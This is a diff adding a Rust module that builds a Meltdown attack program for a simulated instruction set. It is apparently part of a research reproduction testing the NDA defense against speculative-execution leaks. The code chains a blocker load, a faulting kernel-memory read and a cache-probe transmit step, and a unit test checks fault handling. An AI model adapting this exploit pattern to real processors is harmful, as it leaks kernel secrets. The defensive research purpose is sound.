@@ -1,0 +1,77 @@
+//! Meltdown — the paper's Listing 2 (chosen-code, d-cache channel).
+//!
+//! A load from kernel memory will fault at commit, but in flawed
+//! implementations its value forwards to dependents as soon as it
+//! executes. A slow "blocker" load ahead of it keeps the faulting load
+//! away from the ROB head, widening the window in which the dependent
+//! probe access transmits the secret. The architectural fault is absorbed
+//! by a handler that retries a few times (the first wrong-path access
+//! warms the kernel line) and then runs the recover phase.
+//!
+//! NDA's load restriction (paper §5.3) makes the faulting load wake its
+//! dependents only if it retires — and it never retires, it faults.
+
+use crate::layout::*;
+use crate::util;
+use nda_isa::{Asm, Program, Reg};
+
+/// Wrong-path attempts before recovery (first warms the kernel line).
+const ATTEMPTS: u64 = 3;
+
+/// Build the attack program for `secret`.
+pub fn program(secret: u8) -> Program {
+    let mut asm = Asm::new();
+    let handler = asm.new_label();
+    let attempt = asm.new_label();
+    let recover = asm.new_label();
+    asm.fault_handler(handler);
+
+    util::emit_probe_flush(&mut asm);
+    asm.li(Reg::X9, 0); // attempt counter (committed before each fault)
+
+    asm.bind(attempt);
+    asm.addi(Reg::X9, Reg::X9, 1);
+    // Blocker: a cold load that parks at the ROB head for ~144 cycles,
+    // delaying fault delivery while the transmit chain runs.
+    asm.li(Reg::X10, BLOCKER_ADDR);
+    asm.clflush(Reg::X10, 0);
+    asm.ld8(Reg::X11, Reg::X10, 0);
+    // Phase 1: the illegal access (Listing 2 line 2).
+    asm.li(Reg::X3, KERNEL_SECRET_ADDR);
+    asm.ld1(Reg::X6, Reg::X3, 0); // faults at commit; data forwards now
+    // Phase 2: transmit before the fault fires (Listing 2 line 6).
+    asm.shli(Reg::X6, Reg::X6, 9);
+    asm.li(Reg::X7, PROBE_BASE);
+    asm.add(Reg::X7, Reg::X7, Reg::X6);
+    asm.ld1(Reg::X8, Reg::X7, 0);
+    // Unreachable: the faulting load always transfers to the handler.
+    asm.jmp(recover);
+
+    asm.bind(handler);
+    asm.li(Reg::X26, ATTEMPTS);
+    asm.bltu(Reg::X9, Reg::X26, attempt);
+
+    asm.bind(recover);
+    util::emit_recover(&mut asm);
+    asm.halt();
+
+    let mut p = asm.assemble().expect("meltdown assembles");
+    p.data.push(nda_isa::DataInit { addr: KERNEL_SECRET_ADDR, bytes: vec![secret] });
+    p
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use nda_isa::Interp;
+
+    #[test]
+    fn faults_are_architecturally_absorbed() {
+        let p = program(42);
+        let mut i = Interp::new(&p);
+        let exit = i.run(10_000_000).expect("halts");
+        assert!(exit.halted);
+        assert_eq!(exit.faults, ATTEMPTS, "one fault per attempt");
+        assert_eq!(i.reg(Reg::X6), 0, "kernel data never reaches registers");
+    }
+}
